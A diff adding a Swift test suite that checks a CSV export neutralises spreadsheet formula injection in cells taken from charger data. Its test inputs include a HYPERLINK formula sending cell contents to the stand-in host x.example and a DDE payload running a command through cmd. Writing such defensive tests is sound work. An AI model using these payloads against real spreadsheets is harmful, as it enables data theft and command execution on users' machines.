@@ -156,3 +156,21 @@ struct ReportTests {
         #expect(histogram.count == 1000)
     }
 }
+
+@Suite("Handover CSV cells")
+struct HandoverCSVTests {
+    /// Cells come from chargers (ids, vendor strings, firmware versions): a spreadsheet must show them, not run them.
+    @Test("text a spreadsheet would run as a formula is neutralised; numbers, negative ones included, stay numbers")
+    func formulas() {
+        let cells = [
+            #"=HYPERLINK("http://x.example/?"&A1,"click")"#, "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A9)", "\t=1", "\r=1", "-2+3",
+            "-12.5", "+0.5", "1.5e-3", "-7", "-inf", "CP-7", "", "a=b", "\u{FF1D}1+1",
+        ]
+        let text = HandoverExport.csv(["c"], cells.map { [$0] })
+        let lines = text.components(separatedBy: "\r\n").dropFirst().dropLast()
+        #expect(Array(lines) == [
+            #""'=HYPERLINK(""http://x.example/?""&A1,""click"")""#, "'=cmd|' /C calc'!A0", "'+1+1", "'@SUM(A1:A9)", "'\t=1", "\"'\r=1\"", "'-2+3",
+            "-12.5", "+0.5", "1.5e-3", "-7", "'-inf", "CP-7", "", "a=b", "'\u{FF1D}1+1",
+        ])
+    }
+}
